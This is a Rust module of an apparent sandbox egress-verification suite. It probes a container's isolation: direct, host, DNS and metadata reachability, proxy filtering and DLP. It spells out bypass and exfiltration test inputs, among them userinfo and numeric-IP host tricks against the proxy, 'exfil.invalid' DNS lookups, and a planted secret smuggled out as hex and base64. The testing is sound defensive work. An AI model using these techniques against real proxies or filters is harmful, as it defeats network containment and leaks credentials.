//! The probes of each category and how each verdict is decided.
//!
//! A reachability probe passes only when the probe saw no connection AND the
//! canary it aimed at logged no contact; a probe that could not run fails
//! (it proved nothing). Proxy and DLP probes pass only when the request was
//! refused AND the bundle raised an event for it.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::time::Duration;

use base64::Engine;
use bottle_protocol::config::{
    DEFAULT_CONTROL_PORT, DEFAULT_GIT_GATE_PORT, DEFAULT_PROXY_PORT, DEFAULT_SUPERVISE_PORT, EGRESS_PORT,
};
use bottle_protocol::{Event, EventKind};
use futures_util::future::join_all;

use super::probe::{self, ProbeReport};
use super::world::{Contact, METADATA_IP, OUTSIDE_DNS, OUTSIDE_HTTP, OUTSIDE_TCP};
use super::{ALLOWED_HOST, Category, Finding, Suite};
use crate::backend::BottleBackend;
use crate::sidecar::labels;

/// Connect timeout of reachability probes: an isolated network answers at once (no route) or never.
const REACH_MS: &str = "1000";
/// Per-port timeout of the bundle port scan.
const SCAN_MS: &str = "300";
/// How long the suite waits for the bundle's event after a refused request.
const EVENT_WAIT: Duration = Duration::from_secs(3);
/// Host addresses probed at most (a busy engine has many bridges).
const MAX_HOST_IPS: usize = 16;

pub async fn run(s: &Suite, c: Category) -> Vec<Finding> {
    match c {
        Category::Direct => direct(s).await,
        Category::Hosts => hosts(s).await,
        Category::Dns => dns(s).await,
        Category::EgressPort => egress_port(s).await,
        Category::Proxy => proxy(s).await,
        Category::Dlp => dlp(s).await,
        Category::Git => super::git::run(s).await,
        Category::Privileges => privileges(s).await,
        Category::FailClosed => fail_closed(s).await,
    }
}

pub(super) async fn probe(s: &Suite, args: &[&str]) -> anyhow::Result<ProbeReport> {
    probe::run(&s.backend, &s.bottle, args).await
}

/// Runs many probes at once (each bounded by its own timeout).
async fn probes(s: &Suite, all: &[Vec<String>]) -> Vec<anyhow::Result<ProbeReport>> {
    join_all(all.iter().map(|a| {
        let a: Vec<&str> = a.iter().map(String::as_str).collect();
        async move { probe(s, &a).await }
    }))
    .await
}

fn args(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

pub(super) fn seen(r: &anyhow::Result<ProbeReport>) -> String {
    match r {
        Ok(r) if r.detail.is_empty() => r.outcome.clone(),
        Ok(r) => format!("{} ({})", r.outcome, r.detail),
        Err(e) => format!("probe did not run: {e:#}"),
    }
}

/// No connection: the probe ran and saw nothing answer (`refused` counts as answered).
fn unreached(r: &anyhow::Result<ProbeReport>, refused_ok: bool) -> bool {
    r.as_ref().is_ok_and(|r| r.outcome != "connected" && (refused_ok || !probe::ANSWERED.contains(&r.outcome.as_str())))
}

fn contact_text(c: &[Contact]) -> String {
    c.iter().map(|c| format!("{} {}/{} from {}", c.canary, c.proto, c.port, c.peer)).collect::<Vec<_>>().join("; ")
}

/// Reachability probes against the outside canary: none connects, and the canary logs nothing.
async fn direct(s: &Suite) -> Vec<Finding> {
    let ip = s.world.outside.ip;
    let before = s.world.outside_contacts().await.len();
    let mut targets: Vec<(String, Vec<String>)> = OUTSIDE_TCP
        .iter()
        .chain([&OUTSIDE_HTTP])
        .map(|p| (format!("tcp {ip}:{p}"), args(&["tcp", &format!("{ip}:{p}"), REACH_MS])))
        .collect();
    targets.push((format!("udp {ip}:{OUTSIDE_DNS}"), args(&["udp", &format!("{ip}:{OUTSIDE_DNS}"), REACH_MS])));
    let results = probes(s, &targets.iter().map(|t| t.1.clone()).collect::<Vec<_>>()).await;
    let new: Vec<Contact> = s.world.outside_contacts().await.into_iter().skip(before).collect();
    let mut out: Vec<Finding> = targets
        .iter()
        .zip(&results)
        .map(|((name, a), r)| {
            let ok = unreached(r, false) && (a[0] != "udp" || r.as_ref().is_ok_and(|r| r.outcome != "reply"));
            Finding::new(Category::Direct, name, "no connection (the proxy env ignored)", seen(r), ok)
        })
        .collect();
    out.push(Finding::new(
        Category::Direct,
        "outside canary log",
        "no contact from the bottle",
        if new.is_empty() { "no contact".into() } else { contact_text(&new) },
        new.is_empty(),
    ));
    out
}

/// The host addresses `ip -o addr show ARGS` lists, in its order.
async fn ip_addrs(args: &[&str]) -> Result<Vec<IpAddr>, String> {
    let out = tokio::process::Command::new("ip").args(["-o", "addr", "show"]).args(args).output().await;
    let out = out.map_err(|e| format!("running ip: {e}"))?;
    Ok(String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| l.split_whitespace().skip_while(|w| *w != "inet" && *w != "inet6").nth(1))
        .filter_map(|cidr| cidr.split('/').next()?.parse().ok())
        .collect())
}

/// The host's own addresses, IPv4 and IPv6.
async fn host_ips() -> Vec<IpAddr> {
    let mut ips: Vec<IpAddr> = ip_addrs(&["scope", "global"])
        .await
        .unwrap_or_default()
        .into_iter()
        .filter(|ip| !ip.is_loopback() && *ip != IpAddr::V4(METADATA_IP))
        .collect();
    ips.sort();
    ips.dedup();
    ips.truncate(MAX_HOST_IPS);
    ips
}

/// The host's link-local address on the agent network's bridge: the IPv6 path from
/// the agent to the host that needs no route, open as soon as the agent has IPv6.
async fn bridge_link_local(s: &Suite) -> Result<Ipv6Addr, String> {
    let none = None::<bollard::query_parameters::InspectNetworkOptions>;
    let net = s.backend.docker().inspect_network(&s.placement.agent_net, none).await.map_err(|e| e.to_string())?;
    let named = net.options.and_then(|mut o| o.remove("com.docker.network.bridge.name"));
    let bridge = named
        .or_else(|| net.id.map(|id| format!("br-{}", &id[..id.len().min(12)])))
        .ok_or("the agent network has no id")?;
    ip_addrs(&["dev", &bridge, "scope", "link"])
        .await?
        .into_iter()
        .find_map(|ip| match ip {
            IpAddr::V6(v6) => Some(v6),
            IpAddr::V4(_) => None,
        })
        .ok_or(format!("the host has no IPv6 link-local address on {bridge}"))
}

async fn hosts(s: &Suite) -> Vec<Finding> {
    let (lo, all) = (s.world.host_lo.port, s.world.host_all.port);
    let gateway = crate::netpool::host(&s.placement.agent_subnet, 1);
    let outside = s.world.outside.ip;
    // (name, args, refused counts as blocked: only for the agent's own loopback)
    let mut t: Vec<(String, Vec<String>, bool)> = vec![
        (format!("agent loopback 127.0.0.1:{lo}"), args(&["tcp", &format!("127.0.0.1:{lo}"), REACH_MS]), true),
        (format!("agent loopback 127.0.0.1:{all}"), args(&["tcp", &format!("127.0.0.1:{all}"), REACH_MS]), true),
        (
            format!("agent-network gateway {gateway}:{all}"),
            args(&["tcp", &format!("{gateway}:{all}"), REACH_MS]),
            false,
        ),
        (format!("rfc1918 canary {outside}:8080"), args(&["tcp", &format!("{outside}:8080"), REACH_MS]), false),
        (format!("metadata {METADATA_IP}:80"), args(&["tcp", &format!("{METADATA_IP}:80"), REACH_MS]), false),
        (
            format!("ipv6 v4-mapped [::ffff:{outside}]:80"),
            args(&["tcp", &format!("[::ffff:{outside}]:80"), REACH_MS]),
            false,
        ),
    ];
    for ip in host_ips().await {
        for port in [lo, all] {
            let at = SocketAddr::new(ip, port).to_string();
            t.push((format!("host address {at}"), args(&["tcp", &at, REACH_MS]), false));
        }
    }
    // IPv6 paths that exist only when a canary is there to prove them; otherwise not-run, with why.
    let mut unavailable = Vec::new();
    let link_local = bridge_link_local(s).await.map(|ll| format!("[{ll}%eth0]:{all}"));
    let ula = s.world.outside.ula.clone().map(|ula| format!("[{ula}]:{OUTSIDE_HTTP}"));
    for (what, target) in [("ipv6 link-local host on the agent bridge", link_local), ("ipv6 ULA canary", ula)] {
        match target {
            Ok(at) => t.push((format!("{what} {at}"), args(&["tcp", &at, REACH_MS]), false)),
            Err(why) => unavailable.push(Finding::not_run(Category::Hosts, what, "no connection", why)),
        }
    }
    if let Some((peer, p)) = &s.peer {
        for (what, ip, port) in [
            ("proxy", p.bundle_ip, DEFAULT_PROXY_PORT),
            ("git gate", p.bundle_ip, DEFAULT_GIT_GATE_PORT),
            ("control", p.bundle_egress_ip, DEFAULT_CONTROL_PORT),
            ("agent", p.agent_ip, 22),
        ] {
            t.push((
                format!("other bottle {peer} {what} {ip}:{port}"),
                args(&["tcp", &format!("{ip}:{port}"), REACH_MS]),
                false,
            ));
        }
    }
    let before_out = s.world.outside_contacts().await.len();
    let (before_lo, before_all) = (s.world.host_lo.contacts().len(), s.world.host_all.contacts().len());
    let before_meta = s.world.metadata.as_ref().map(|m| m.canary.contacts().len()).unwrap_or(0);
    let results = probes(s, &t.iter().map(|x| x.1.clone()).collect::<Vec<_>>()).await;
    let mut out: Vec<Finding> = t
        .iter()
        .zip(&results)
        .map(|((name, _, refused_ok), r)| {
            let mut f = Finding::new(Category::Hosts, name, "no connection", seen(r), unreached(r, *refused_ok));
            // Without the canary a silent probe proves nothing: not-run, but a connection still fails.
            if let (true, Err(why), super::Outcome::Pass) = (name.starts_with("metadata"), &s.world.metadata, f.verdict)
            {
                f = Finding::not_run(
                    Category::Hosts,
                    name,
                    "no connection",
                    format!("{} (no metadata canary here: {why})", f.observation),
                );
            }
            if s.peer.is_none() && name.starts_with("other bottle") {
                f = Finding::not_run(Category::Hosts, name, "no connection", "no neighbour bottle (run with -f)");
            }
            f
        })
        .collect();
    out.extend(unavailable);
    if s.peer.is_none() {
        out.push(Finding::not_run(
            Category::Hosts,
            "other bottle",
            "no connection",
            "no neighbour bottle in NAME mode (run with -f)",
        ));
    }
    let mut logged: Vec<Contact> = s.world.outside_contacts().await.into_iter().skip(before_out).collect();
    logged.extend(s.world.host_lo.contacts().into_iter().skip(before_lo));
    logged.extend(s.world.host_all.contacts().into_iter().skip(before_all));
    if let Ok(m) = &s.world.metadata {
        logged.extend(m.canary.contacts().into_iter().skip(before_meta));
    }
    out.push(Finding::new(
        Category::Hosts,
        "host, outside and metadata canary logs",
        "no contact from the bottle",
        if logged.is_empty() { "no contact".into() } else { contact_text(&logged) },
        logged.is_empty(),
    ));
    out
}

/// Nameservers in the agent's resolv.conf, read on the host from Docker's copy.
async fn agent_nameservers(s: &Suite) -> Vec<String> {
    let agent = labels::object_name(&s.bottle, labels::ROLE_AGENT);
    let Ok(info) = s.backend.docker().inspect_container(&agent, None).await else { return vec![] };
    let text = match info.resolv_conf_path {
        Some(p) => tokio::fs::read_to_string(p).await.unwrap_or_default(),
        None => String::new(),
    };
    text.lines().filter_map(|l| l.strip_prefix("nameserver")).map(|s| s.trim().to_string()).collect()
}

async fn dns(s: &Suite) -> Vec<Finding> {
    let gateway = crate::netpool::host(&s.placement.agent_subnet, 1);
    let mut resolvers: Vec<(String, Option<String>)> = vec![
        ("docker embedded 127.0.0.11".into(), Some("127.0.0.11".into())),
        ("bundle".into(), Some(s.placement.bundle_ip.to_string())),
        ("agent-network gateway".into(), Some(gateway.to_string())),
        ("outside canary".into(), Some(s.world.outside.ip.to_string())),
    ];
    for ns in agent_nameservers(s).await {
        let local = ns.parse::<Ipv4Addr>().is_ok_and(|ip| ip.is_loopback() || s.placement.agent_subnet.contains(&ip));
        // Never aim a probe at the machine's own resolver: it is the workplace's, not a canary.
        resolvers.push((format!("resolv.conf {ns}"), local.then_some(ns)));
    }
    let names: Vec<String> = (0..resolvers.len()).map(|i| format!("x{i}-{}.exfil.invalid", s.world.id)).collect();
    let before = s.world.outside_contacts().await.len();
    let mut runs = Vec::new();
    for ((_, server), name) in resolvers.iter().zip(&names) {
        if let Some(server) = server {
            runs.push(args(&["dns", name, &format!("{server}:53"), REACH_MS]));
        }
    }
    let mut results = probes(s, &runs).await.into_iter();
    let asked: Vec<String> = s
        .world
        .outside_contacts()
        .await
        .into_iter()
        .skip(before)
        .filter(|c| c.proto == "dns")
        .map(|c| c.detail)
        .collect();
    resolvers
        .iter()
        .zip(&names)
        .map(|((what, server), name)| {
            let expect = "no answer; the canary DNS records no name";
            let Some(_) = server else {
                return Finding::not_run(
                    Category::Dns,
                    what,
                    expect,
                    "not probed: the machine's own resolver is no canary",
                );
            };
            let r = results.next().expect("one result per probed resolver");
            let leaked = asked.iter().any(|a| a.eq_ignore_ascii_case(name));
            let answered = r.as_ref().is_ok_and(|r| r.outcome.starts_with("answered"));
            let obs = format!("{}{}", seen(&r), if leaked { "; the canary DNS saw the name" } else { "" });
            Finding::new(Category::Dns, what, expect, obs, r.is_ok() && !leaked && !answered)
        })
        .collect()
}

async fn egress_port(s: &Suite) -> Vec<Finding> {
    let (b, e) = (s.placement.bundle_ip, s.placement.bundle_egress_ip);
    let scan = args(&["scan", &b.to_string(), "1-65535", SCAN_MS]);
    let t = [
        (format!("egress dialer {b}:{EGRESS_PORT}"), args(&["tcp", &format!("{b}:{EGRESS_PORT}"), REACH_MS])),
        (
            format!("control plane {b}:{DEFAULT_CONTROL_PORT}"),
            args(&["tcp", &format!("{b}:{DEFAULT_CONTROL_PORT}"), REACH_MS]),
        ),
        (
            format!("control plane {e}:{DEFAULT_CONTROL_PORT}"),
            args(&["tcp", &format!("{e}:{DEFAULT_CONTROL_PORT}"), REACH_MS]),
        ),
    ];
    let mut all: Vec<Vec<String>> = t.iter().map(|x| x.1.clone()).collect();
    all.push(scan);
    let results = probes(s, &all).await;
    let mut out: Vec<Finding> = t
        .iter()
        .zip(&results)
        .map(|((name, _), r)| Finding::new(Category::EgressPort, name, "no connection", seen(r), unreached(r, true)))
        .collect();
    let r = &results[t.len()];
    let agent_ports = [DEFAULT_PROXY_PORT, DEFAULT_GIT_GATE_PORT, DEFAULT_SUPERVISE_PORT];
    let open: Vec<u16> = r
        .as_ref()
        .ok()
        .and_then(|r| r.outcome.strip_prefix("open:"))
        .map(|l| l.split(',').filter_map(|p| p.parse().ok()).collect())
        .unwrap_or_default();
    let ok = r.as_ref().is_ok_and(|r| r.outcome == "none" || r.outcome.starts_with("open:"))
        && open.iter().all(|p| agent_ports.contains(p))
        && open.contains(&DEFAULT_PROXY_PORT);
    out.push(Finding::new(
        Category::EgressPort,
        format!("port scan {b}:1-65535"),
        "open: only 3128 (proxy), 9418 (git gate), 9419 (supervise)",
        seen(r),
        ok,
    ));
    out
}

/// Every event after `since`.
async fn events_since(s: &Suite, since: Option<u64>) -> anyhow::Result<Vec<Event>> {
    let mut stream = s.control.events(since, false).await?;
    let mut all = Vec::new();
    while let Some(e) = stream.next().await? {
        all.push(e);
    }
    Ok(all)
}

pub(super) async fn last_event_id(s: &Suite) -> Option<u64> {
    events_since(s, None).await.ok().and_then(|e| e.last().map(|e| e.id))
}

/// The first event after `since` that `pick` describes, polled for up to [`EVENT_WAIT`]:
/// the bundle emits an event just after it answers, so it may trail the refusal a little.
pub(super) async fn event_after(
    s: &Suite,
    since: Option<u64>,
    pick: impl Fn(EventKind) -> Option<String>,
) -> Option<String> {
    let deadline = tokio::time::Instant::now() + EVENT_WAIT;
    loop {
        let found = events_since(s, since).await.ok().and_then(|all| all.into_iter().find_map(|e| pick(e.kind)));
        if found.is_some() || tokio::time::Instant::now() >= deadline {
            return found;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// Runs one request probe that must be refused and must raise an `EgressBlocked` event.
async fn refused_with_event(s: &Suite, category: Category, name: &str, a: &[&str]) -> Finding {
    let expect = "refused, with an egress-blocked event";
    let since = last_event_id(s).await;
    let r = probe(s, a).await;
    let refused = r.as_ref().is_ok_and(|r| {
        r.http_status().is_some_and(|c| (400..500).contains(&c)) || r.outcome == "tunnel-cut" || r.outcome == "closed"
    });
    let blocked = |kind| match kind {
        EventKind::EgressBlocked { rule, target, .. } => Some(format!("event {rule} {target}")),
        _ => None,
    };
    let event = if refused { event_after(s, since, blocked).await } else { None };
    let obs = format!("{}; {}", seen(&r), event.clone().unwrap_or_else(|| "no event".into()));
    Finding::new(category, name, expect, obs, refused && event.is_some())
}

fn proxy_addr(s: &Suite) -> String {
    format!("{}:{DEFAULT_PROXY_PORT}", s.placement.bundle_ip)
}

async fn proxy(s: &Suite) -> Vec<Finding> {
    let px = proxy_addr(s);
    let o = s.world.outside.ip.octets();
    let decimal = u32::from(s.world.outside.ip).to_string();
    let hex = format!("0x{:08x}", u32::from(s.world.outside.ip));
    let octal = o.iter().map(|b| format!("0{b:o}")).collect::<Vec<_>>().join(".");
    let ip_target = format!("{}:443", s.world.outside.ip);
    let cases: Vec<(String, Vec<String>)> = vec![
        ("denied domain".into(), args(&["http", &px, "GET", "http://denied.verify.invalid/"])),
        ("CONNECT to an IP literal".into(), args(&["connect", &px, &ip_target])),
        ("userinfo allowed.test@evil.invalid".into(), args(&["http", &px, "GET", "http://allowed.test@evil.invalid/"])),
        ("percent-encoded host".into(), args(&["http", &px, "GET", "http://evil%2Einvalid/"])),
        (format!("decimal IPv4 host {decimal}"), args(&["http", &px, "GET", &format!("http://{decimal}/")])),
        (format!("hex IPv4 host {hex}"), args(&["http", &px, "GET", &format!("http://{hex}/")])),
        (format!("octal IPv4 host {octal}"), args(&["http", &px, "GET", &format!("http://{octal}/")])),
    ];
    let mut out = Vec::new();
    let before = s.world.outside_contacts().await.len();
    for (name, a) in &cases {
        let a: Vec<&str> = a.iter().map(String::as_str).collect();
        out.push(refused_with_event(s, Category::Proxy, name, &a).await);
    }
    if s.allowed {
        let sni = ["connect", px.as_str(), "allowed.test:443", "evil.invalid"];
        out.push(refused_with_event(s, Category::Proxy, "SNI evil.invalid under CONNECT allowed.test:443", &sni).await);
    } else {
        out.push(Finding::not_run(
            Category::Proxy,
            "SNI differs from CONNECT host",
            "refused",
            "no allowed canary host in NAME mode (run with -f)",
        ));
    }
    let leaked: Vec<Contact> = s
        .world
        .outside_contacts()
        .await
        .into_iter()
        .skip(before)
        .filter(|c| c.proto != "tcp" || c.port != 443)
        .collect();
    out.push(Finding::new(
        Category::Proxy,
        "outside canary log",
        "no request of a refused probe arrived",
        if leaked.is_empty() { "no contact".into() } else { contact_text(&leaked) },
        leaked.is_empty(),
    ));
    if s.allowed {
        let before = s.world.outside_contacts().await.len();
        let r = probe(s, &["http", &px, "GET", &format!("http://{ALLOWED_HOST}/")]).await;
        let arrived = s.world.outside_contacts().await.into_iter().skip(before).any(|c| c.proto == "http");
        let ok = r.as_ref().is_ok_and(|r| r.outcome == "status:200") && arrived;
        out.push(Finding::new(
            Category::Proxy,
            "allowed host (positive control)",
            "status:200 and the canary saw it",
            format!("{}; canary saw it: {arrived}", seen(&r)),
            ok,
        ));
    }
    out
}

async fn dlp(s: &Suite) -> Vec<Finding> {
    let expect = "refused, with an egress-blocked event";
    if !s.allowed {
        return vec![Finding::not_run(
            Category::Dlp,
            "dlp",
            expect,
            "no allowed canary host in NAME mode, so DLP cannot be told apart from the allowlist (run with -f)",
        )];
    }
    let px = proxy_addr(s);
    let url = format!("http://{ALLOWED_HOST}/");
    let aws = format!("AKIA{}", "QZ7XK2M4N6P8R3T5");
    let mut cases: Vec<(String, Vec<String>)> = vec![(
        "builtin pattern (AWS access key id) in the URL".into(),
        args(&["http", &px, "GET", &format!("{url}?k={aws}")]),
    )];
    let mut secret = None;
    if let Some(p) = &s.planted {
        let sec = p.dlp.as_str();
        let pct: String = sec.bytes().map(|b| format!("%{b:02X}")).collect();
        let b64 = base64::engine::general_purpose::STANDARD.encode(sec);
        let hex: String = sec.bytes().map(|b| format!("{b:02x}")).collect();
        cases.extend([
            ("planted secret in the URL".to_string(), args(&["http", &px, "GET", &format!("{url}?q={sec}")])),
            ("planted secret in a header".into(), args(&["http", &px, "GET", &url, &format!("X-Verify: {sec}")])),
            ("planted secret in the body".into(), args(&["http", &px, "POST", &url, "--body", &format!("data={sec}")])),
            ("planted secret URL-encoded".into(), args(&["http", &px, "GET", &format!("{url}?q={pct}")])),
            ("planted secret base64".into(), args(&["http", &px, "POST", &url, "--body", &format!("blob={b64}")])),
            ("planted secret hex".into(), args(&["http", &px, "POST", &url, "--body", &format!("h={hex}")])),
        ]);
        secret = Some(sec);
    }
    let mut out = Vec::new();
    for (name, a) in &cases {
        let a: Vec<&str> = a.iter().map(String::as_str).collect();
        out.push(refused_with_event(s, Category::Dlp, name, &a).await);
    }
    if let Some(sec) = secret {
        let bundle = labels::object_name(&s.bottle, labels::ROLE_BUNDLE);
        let logs = crate::docker::logs_tail(s.backend.docker(), &bundle, crate::docker::LOG_TAIL_LINES).await;
        let events = events_since(s, None).await.map(|e| serde_json::to_string(&e).unwrap_or_default());
        let outside = s.world.outside_contacts().await;
        let in_logs = logs.map(|l| l.contains(sec));
        let in_events = events.map(|e| e.contains(sec));
        let at_canary = outside.iter().any(|c| c.detail.contains(sec));
        let ok = in_logs.as_ref().is_ok_and(|x| !x) && in_events.as_ref().is_ok_and(|x| !x) && !at_canary;
        out.push(Finding::new(
            Category::Dlp,
            "planted secret in bundle logs, events, canary",
            "appears nowhere",
            format!("bundle logs: {}; events: {}; canary: {at_canary}", fmt_found(&in_logs), fmt_found(&in_events)),
            ok,
        ));
    }
    out
}

fn fmt_found(r: &anyhow::Result<bool>) -> String {
    match r {
        Ok(true) => "FOUND".into(),
        Ok(false) => "absent".into(),
        Err(e) => format!("unreadable ({e:#})"),
    }
}

async fn privileges(s: &Suite) -> Vec<Finding> {
    let r = probes(s, &[args(&["docker-socket"]), args(&["caps"]), args(&["mounts"])]).await;
    let rw_ok = r[2].as_ref().is_ok_and(|m| {
        m.outcome == "none" || m.outcome.strip_prefix("rw:").is_some_and(|l| l.split(',').all(|p| p == s.workdir))
    });
    vec![
        Finding::new(
            Category::Privileges,
            "docker socket",
            "absent",
            seen(&r[0]),
            r[0].as_ref().is_ok_and(|x| x.outcome == "absent"),
        ),
        Finding::new(
            Category::Privileges,
            "capabilities",
            "none of NET_ADMIN, NET_RAW, SYS_ADMIN, ...",
            seen(&r[1]),
            r[1].as_ref().is_ok_and(|x| x.outcome == "none"),
        ),
        Finding::new(Category::Privileges, "writable host mounts", &format!("only {}", s.workdir), seen(&r[2]), rw_ok),
    ]
}

/// Stops the bundle, then: nothing gets out, and the bottle reports itself degraded.
async fn fail_closed(s: &Suite) -> Vec<Finding> {
    if !s.owned {
        return vec![Finding::not_run(
            Category::FailClosed,
            "bundle stopped",
            "nothing gets out",
            "would stop the bundle of a bottle the suite does not own (run with -f)",
        )];
    }
    let bundle = labels::object_name(&s.bottle, labels::ROLE_BUNDLE);
    // Stopped with no grace period: SIGKILL at once (no chance to tidy up), and marked stopped
    // so its restart policy does not bring it back in the middle of the probes.
    let stop = bollard::query_parameters::StopContainerOptionsBuilder::default().t(0).build();
    if let Err(e) = s.backend.docker().stop_container(&bundle, Some(stop)).await {
        return vec![Finding::new(Category::FailClosed, "stop the bundle", "stopped", format!("{e:#}"), false)];
    }
    let before = s.world.outside_contacts().await.len();
    let px = proxy_addr(s);
    let ip = s.world.outside.ip;
    let mut t = vec![
        ("allowed host through the proxy".to_string(), args(&["http", &px, "GET", &format!("http://{ALLOWED_HOST}/")])),
        (format!("proxy {px}"), args(&["tcp", &px, REACH_MS])),
    ];
    for p in OUTSIDE_TCP.iter().chain([&OUTSIDE_HTTP]) {
        t.push((format!("tcp {ip}:{p}"), args(&["tcp", &format!("{ip}:{p}"), REACH_MS])));
    }
    let results = probes(s, &t.iter().map(|x| x.1.clone()).collect::<Vec<_>>()).await;
    let new: Vec<Contact> = s.world.outside_contacts().await.into_iter().skip(before).collect();
    let mut out: Vec<Finding> = t
        .iter()
        .zip(&results)
        .map(|((name, a), r)| {
            let ok =
                if a[0] == "http" { r.as_ref().is_ok_and(|r| r.http_status().is_none()) } else { unreached(r, false) };
            Finding::new(Category::FailClosed, name, "nothing answers", seen(r), ok)
        })
        .collect();
    out.push(Finding::new(
        Category::FailClosed,
        "outside canary log",
        "no contact",
        if new.is_empty() { "no contact".into() } else { contact_text(&new) },
        new.is_empty(),
    ));
    let st = s.backend.status(&s.bottle).await;
    let obs = st.as_ref().map(|st| format!("{}: {}", st.state, st.detail)).unwrap_or_else(|e| format!("{e:#}"));
    out.push(Finding::new(Category::FailClosed, "status", "degraded", obs, st.is_ok_and(|st| st.state == "degraded")));
    out
}
